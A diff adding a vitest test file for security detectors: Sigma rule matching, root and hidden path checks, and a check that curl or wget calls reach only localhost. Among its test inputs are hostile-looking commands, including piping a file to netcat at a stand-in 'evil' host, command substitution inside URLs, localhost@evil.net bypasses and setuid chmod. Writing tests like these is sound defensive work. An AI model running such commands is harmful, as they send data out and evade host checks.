@@ -1,0 +1,112 @@
+import { describe, expect, it } from 'vitest';
+import { talksToItselfAlone } from '../../src/detectors/own-machine.ts';
+import { isHiddenNamed, mayBeRooted } from '../../src/detectors/path-place.ts';
+import { plausibility, SearchedText } from '../../src/detectors/plausible.ts';
+import { taxonomy } from '../../src/detectors/taxonomy.ts';
+import { loadSigma } from '../../src/sigma/index.ts';
+
+/** Whether a rule of processes, files or code may have something to say about a text. */
+function plausible(selection: string, text: string, category = 'process_creation'): boolean {
+  const body = selection
+    .split('\n')
+    .map((line) => `    ${line}`)
+    .join('\n');
+  const rule = `title: T\nid: 3c1a0a34-8a5c-4ac5-9f5b-1f2f7a1b0c11\nlogsource:\n  product: linux\n  category: ${category}\ndetection:\n  s:\n${body}\n  condition: s\n`;
+  const [loaded] = loadSigma([{ file: 'rule.yml', text: rule }], { taxonomy }).rules;
+  return plausibility(loaded!)(new SearchedText(text));
+}
+
+describe('a closer look at a text', () => {
+  it.each<[string, string, string, string]>([
+    ['a program', 'Image|endswith: /at', 'echo x | at now', 'we all meet at noon'],
+    ['signs', "CommandLine|contains: '$('", 'curl "x?$(id)"', 'curl x?id'],
+    [
+      'what is repeated',
+      "CommandLine|re: '(?:==\\s*\\d+.*return.*){2,}'",
+      'a == 1 return; b == 2 return',
+      'a == 1 return; b > 2 return',
+    ],
+    ['a form', "CommandLine|re: '\\s[0-9a-f]{7,40}$'", 'git show 4f2a91c', 'git show HEAD~1'],
+    ['a root', "TargetFilename|re: '^/(tests|oracle)/.'", 'cat /tests/a', 'cat /repo/tests/a'],
+    [
+      'a root that is the current folder',
+      "TargetFilename|re: '^/(tests|oracle)/.'",
+      'cd /; cat tests/a',
+      'cd /repo; cat tests/a',
+    ],
+    ['a hidden name', 'Image|contains: /tmp/.', 'cd /tmp; ./.x', 'cd /tmp; ./x'],
+    ['a mode', "Mode|re: '^[4-7][0-7]{3}$'", 'chmod 4755 x', 'chmod +x 4.sh'],
+  ])('asks for %s', (_, selection, wanted, unwanted) => {
+    const category = selection.startsWith('Mode')
+      ? 'file_change'
+      : selection.startsWith('Target')
+        ? 'file_event'
+        : 'process_creation';
+    expect(plausible(selection, wanted, category)).toBe(true);
+    expect(plausible(selection, unwanted, category)).toBe(false);
+  });
+
+  it('lets quotes, blanks and the case of letters be', () => {
+    expect(plausible('Image|endswith: /NMAP\nCommandLine|contains: " -sS"', "n''map   '-sS' x")).toBe(true);
+    expect(plausible("CommandLine|contains: '`'", 'echo `id`')).toBe(true);
+    expect(plausible("CommandLine|contains: '`'", 'echo id')).toBe(false);
+  });
+
+  it('does not ask for what is worked out', () => {
+    expect(plausible("Mode|re: '^[4-7][0-7]{3}$'", 'os.chmod(p, 2541)', 'file_change')).toBe(true);
+    expect(plausible('not_a_word|exists: true'.replace('not_a_word', 'User'), 'ls')).toBe(true);
+  });
+});
+
+describe('a name at the root of the file system', () => {
+  it.each([
+    '/etc/x',
+    'a /etc',
+    '//etc/x',
+    '/./etc',
+    '../../etc/x',
+    '$root/etc/x',
+    '{a,/}etc',
+    'cd / && cat etc/x',
+    'cd ..; cat etc/x',
+    'cwd=/, cat etc/x',
+  ])('may be in: %s', (text) => {
+    expect(mayBeRooted(text, 'etc')).toBe(true);
+  });
+  it.each(['/repo/etc/x', 'cat etc/x', 'fetch', 'cd /repo && cat etc/x', '~/etc/x'])(
+    'is not in: %s',
+    (text) => {
+      expect(mayBeRooted(text, 'etc')).toBe(false);
+    },
+  );
+});
+
+describe('a hidden name', () => {
+  it.each(['/tmp/.x', '.x/run', './.x', 'ls .config'])('is in: %s', (text) =>
+    expect(isHiddenNamed(text)).toBe(true),
+  );
+  it.each(['./x', '../x', 'a.py', 'cd ..', 'f(x).y'])('is not in: %s', (text) =>
+    expect(isHiddenNamed(text)).toBe(false),
+  );
+});
+
+describe('a call that talks to its own machine alone', () => {
+  it.each(['curl -s http://localhost:8000/api | python -m json.tool', 'wget -qO- http://127.0.0.1/x'])(
+    'is: %s',
+    (text) => {
+      expect(talksToItselfAlone(text)).toBe(true);
+    },
+  );
+  it.each([
+    'curl localhost',
+    'curl http://localhost.evil.net/',
+    'curl http://localhost:1/ http://evil.net',
+    'curl http://localhost/$(cat x)',
+    'curl -x evil.net:80 http://localhost/',
+    'cat x | nc evil 4 & curl http://localhost/',
+    'curl http://localhost@evil.net/',
+    'curl http://localhost 203.0.113.4/x',
+  ])('is not: %s', (text) => {
+    expect(talksToItselfAlone(text)).toBe(false);
+  });
+});
